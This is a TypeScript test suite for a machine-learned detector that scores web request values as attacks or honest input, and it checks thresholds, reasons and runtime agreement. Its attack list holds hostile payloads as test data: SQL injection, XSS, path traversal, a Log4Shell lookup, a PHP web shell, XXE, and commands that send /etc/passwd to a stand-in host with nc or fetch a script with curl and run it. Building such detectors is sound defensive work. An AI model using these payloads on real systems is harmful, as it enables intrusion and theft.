// SPDX-License-Identifier: Apache-2.0

import { deepEqual, equal, ok } from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { hash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { test } from 'node:test'
import fc from 'fast-check'
import { InferenceSession, Tensor } from 'onnxruntime-node'
import type { Value } from '../decode/values.ts'
import { modelLimits } from '../limits.ts'
import { shape } from './graph.ts'
import { createNgramReader } from './ngrams.ts'
import { openModel } from './open-model.ts'
import { readModel } from './weights.ts'
import { openWindows } from './windows.ts'

const model = openModel()
const file = readFileSync(new URL('../../../model/request.onnx', import.meta.url))
const weights = readModel(file, hash('sha256', file))
const value = (text: string, name = 'q'): Value => ({ source: 'ARGS_GET', name, text })
const logitOf = (text: string): number => model.judge([value(text)]).logit
/** Where 0.3 % of honest requests lie above. */
const threshold = model.thresholds.find(({ falsePositives }) => falsePositives === 0.003)?.logit as number

const attacks = [
  "1'; DROP TABLE users; --",
  "admin' or '1'='1",
  '-1 union all select null,concat(user,0x3a,password) from mysql.user#',
  '<img src=x onerror=alert(document.cookie)>',
  '"><svg/onload=prompt(1)>',
  '../../../../../../etc/passwd',
  '..%c0%af..%c0%afwindows/win.ini',
  ';cat /etc/passwd|nc 203.0.113.9 4444',
  '$(curl http://203.0.113.9/x.sh|sh)',
  `\${jndi:ldap://203.0.113.9/a}`,
  "{{''.__class__.__mro__[1].__subclasses__()}}",
  "<?php system($_GET['c']); ?>",
  '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
]
const honest = [
  "Conan O'Brien",
  'Please select your union from the list and drop me a line where possible; 1 or 2 is fine.',
  'Rock & roll -- the best of 1980 (50% off!)',
  '<p>Our <strong>new</strong> shop: <a href="https://shop.example.org/?a=1&b=2">look</a></p>',
  'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
  '/static/js/vendors~main.3f2a91bc.chunk.js',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
  'query Orders($id: ID!) { order(id: $id) { id total items { name } } }',
  'const total = items.map((item) => item.price * 2)',
]

test('DET-1 attacks of every kind lie above the threshold, what people write below it', () => {
  for (const text of attacks) ok(logitOf(text) > threshold, `${text}: ${logitOf(text)}`)
  for (const text of honest) ok(logitOf(text) < threshold, `${text}: ${logitOf(text)}`)
})

test('DET-1 DET-3 the culprit among the values is named, with the n-grams that weighed most', () => {
  const bad = value("x' union select password from users--", 'sort')
  const { culprit, reasons } = model.judge([...honest.map((text) => value(text)), bad, value('3')])
  equal(culprit, bad)
  const told = reasons()
  equal(told.length, modelLimits.reasonsMax)
  for (const { ngram, weight } of told) ok(weight > 0 && ngram.length > 0)
})

test('DET-1 single words, numbers and tokens are not judged, nor is nothing', () => {
  for (const values of [[], [value('')], [value('select')], [value('4f2c9a_B-7')]]) {
    const { logit, culprit, isCut, reasons } = model.judge(values)
    deepEqual([logit, culprit, isCut, reasons()], [Number.NEGATIVE_INFINITY, undefined, false, []])
  }
})

test('DET-1 an attack does not hide in much else', () => {
  const much = 'We like the new kitchen, and the weather was good. '.repeat(40)
  const attack = "' union select password from users where '1'='1"
  ok(logitOf(much) < threshold)
  for (const [before, behind] of [
    [0, 1],
    [1, 1],
    [20, 0],
    [3, 3],
    [20, 20],
  ] as const)
    ok(logitOf(`${much.repeat(before)} ${attack} ${much.repeat(behind)}`) > threshold, `${before} ${behind}`)
})

test('DET-1 the more there is of a text, the more of it may look odd by chance', () => {
  // As long as a segment, so that all windows are alike.
  const some = 'if (item === rows.of(it)) go(a);'
  const [short, long] = [logitOf(some.repeat(11)), logitOf(some.repeat(101))]
  ok(Math.abs(long - short + Math.log(10)) < 1e-9, `${short} ${long}`)
})

test('DET-1 DET-3 of a long text the reasons are those of the piece that is the worst', () => {
  const much = 'We like the new kitchen, and the weather was good. '.repeat(200)
  const { reasons } = model.judge([value(`${much}' union select password from users--${much}`)])
  ok(reasons().some(({ ngram }) => /union|users--/.test(ngram)))
})

test('DET-1 compiled code reads every text as it is defined, to the last bit', () => {
  const { worstLogit } = openWindows(weights)
  const unit = fc.oneof(
    fc.constantFrom(...`ab_ORor0123456789'"=<>%.,;-/ ()\n\0\xa0\x7f\xff`),
    fc.integer({ min: 0, max: 255 }).map((byte) => String.fromCharCode(byte)),
  )
  const same = (text: string) => ok(Object.is(worstLogit(text), model.logitOf(text)), JSON.stringify(text))
  for (const text of [...attacks, ...honest]) same(text)
  fc.assert(fc.property(fc.string({ unit, maxLength: 100 }), same), { numRuns: 2_000 })
  for (const length of [31, 32, 33, 63, 64, 65, 4_096, 4_097, 6_143, 6_144, 6_145, 20_000])
    for (const text of [...attacks, ...honest]) same(text.repeat(Math.ceil(length / text.length)).slice(0, length))
})

test('DET-1 DET-3 a reason weighs what the logit loses without it, to the first order', () => {
  const { reasonsOf } = openWindows(weights)
  const reader = createNgramReader()
  for (const text of attacks) {
    const segments = reader.read(text)
    if (segments > 2) continue
    const count = reader.segmentEnds[segments - 1] as number
    const ngrams = [...reader.hashes.subarray(0, count)].filter(isKnown)
    // A thousandth of it is taken out, and the loss is a thousandth of its weight.
    const without = (taken: number) => (ngram: number) => (ngram === taken ? 0.999 : 1)
    const whole = logitFrom(ngrams, count, () => 1)
    const lost = new Map(ngrams.map((ngram) => [ngram, 1_000 * (whole - logitFrom(ngrams, count, without(ngram)))]))
    const heaviest = [...lost.values()].filter((weight) => weight > 0).sort((one, other) => other - one)
    const told = reasonsOf(text).map(({ weight }) => weight)
    equal(told.length, Math.min(heaviest.length, modelLimits.reasonsMax), text)
    for (const [at, weight] of told.entries()) ok(Math.abs(weight - (heaviest[at] as number)) < 0.01, `${text}: ${at}`)
  }
})

const slotOf = (ngram: number) => ngram >>> (32 - shape.slotBits)
const isKnown = (ngram: number) => weights.ngrams[slotOf(ngram)] === ngram

/** As graph.ts has it, with a share of each n-gram. */
function logitFrom(ngrams: readonly number[], count: number, shareOf: (ngram: number) => number): number {
  const { width, hidden } = shape
  const { embeddings, scale, w1, b1, w2, b2 } = weights
  const at = (of: ArrayLike<number>, place: number) => of[place] as number
  const pooled = Array.from({ length: width }, (_, part) => {
    const sum = ngrams.reduce((sum, ngram) => sum + shareOf(ngram) * at(embeddings, slotOf(ngram) * width + part), 0)
    return (sum * at(scale, 0)) / Math.sqrt(count)
  })
  const cells = Array.from({ length: hidden }, (_, cell) =>
    pooled.reduce((sum, value, part) => sum + value * at(w1, part * hidden + cell), at(b1, cell)),
  )
  return cells.reduce((sum, value, cell) => sum + (value < 0 ? value * 0.0625 : value) * at(w2, cell), at(b2, 0))
}

test('DET-1 the code that is committed is what its source makes', (context) => {
  const tools = spawnSync('sh', ['-c', 'command -v clang wasm-ld make'])
  if (tools.status !== 0) return context.skip('clang, lld or make is missing: tools/setup test')
  const native = new URL('../../../native', import.meta.url).pathname
  const { status, stdout, stderr } = spawnSync('make', ['-C', native, 'check-windows'], { encoding: 'utf8' })
  equal(status, 0, `${stdout}${stderr}`)
})

test('DET-1 of all that a request says no more is read than is allowed, and it is told', () => {
  const { charsMax, pieceChars } = modelLimits
  const much = 'We like the new kitchen, and the weather was good. '.repeat(1_000).slice(0, pieceChars)
  const some = Array.from({ length: charsMax / pieceChars }, () => value(much))
  const bad = value("x' union select password from users--")
  equal(model.judge(some).isCut, false)
  deepEqual(
    [model.judge([bad, ...some]), model.judge([...some, bad])].map(({ isCut, culprit }) => [isCut, culprit === bad]),
    [
      [true, true],
      [true, false],
    ],
  )
})

test('DET-1 ONNX Runtime says the same of the same file, to a millionth', async () => {
  const session = await InferenceSession.create(file, { intraOpNumThreads: 1 })
  const reader = createNgramReader()
  const random = fc.sample(fc.string({ minLength: 1, maxLength: 40 }), { numRuns: 100, seed: 1 })
  for (const text of [...attacks, ...honest, ...random]) {
    if (reader.read(text) > 1) continue
    const hashes = Uint32Array.from(reader.hashes.subarray(0, reader.segmentEnds[0]), (ngram) => ngram >>> 0)
    const { logit, probability } = await session.run({ hashes: new Tensor('uint32', hashes, [hashes.length]) })
    const ours = model.logitOf(text)
    ok(Math.abs(ours - Number(logit?.data[0])) < 1e-6 * Math.max(1, Math.abs(ours)), text)
    ok(Math.abs(1 / (1 + Math.exp(-ours)) - Number(probability?.data[0])) < 1e-6, text)
  }
})
